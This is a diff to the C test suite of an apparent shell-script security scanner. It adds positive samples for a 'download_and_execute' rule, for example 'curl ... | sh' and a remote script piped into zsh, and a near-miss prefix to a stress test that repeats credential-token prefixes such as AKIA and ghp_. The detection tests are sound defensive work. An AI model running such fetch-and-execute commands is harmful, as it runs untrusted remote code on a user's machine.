@@ -213,6 +213,9 @@ static const struct sample samples[] = {
     {"download_and_execute", true, "s.sh", "curl -fsSL https://x.example/i | python3\n", NULL},
     {"download_and_execute", true, "s.sh", "bash <(curl -fsSL https://x.example/i)\n", NULL},
     {"download_and_execute", true, "s.sh", "sh -c \"$(curl -fsSL https://x.example/i)\"\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://cdn.example.com/www/install | sh\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -o a https://x/a; curl https://x/b | zsh\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl https://x.example/wget.sh | sh\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -o out.tgz https://x.example/a.tgz\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -fsSL https://x.example/i | tee log\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -o i.sh https://x.example/i\n| sh is on the next line\n", NULL},
@@ -331,7 +334,7 @@ static void match_limit(void **state) {
   assert_int_equal(jb_scan_rules_load(NULL, &d, &err), 0);
   size_t n = 1024 * 1024;
   char *big = malloc(n);
-  static const char *const nearly[] = {"curl ", "BEGIN ", "BEGIN RSA ", "AKIA", "ghp_", "sh <(", "xox", NULL};
+  static const char *const nearly[] = {"curl ", "curl -x cwcw ", "BEGIN ", "BEGIN RSA ", "AKIA", "ghp_", "sh <(", "xox", NULL};
   for (size_t k = 0; nearly[k]; k++) {
     size_t w = strlen(nearly[k]), m = n - n % w;
     for (size_t i = 0; i + w <= m; i += w) memcpy(big + i, nearly[k], w);
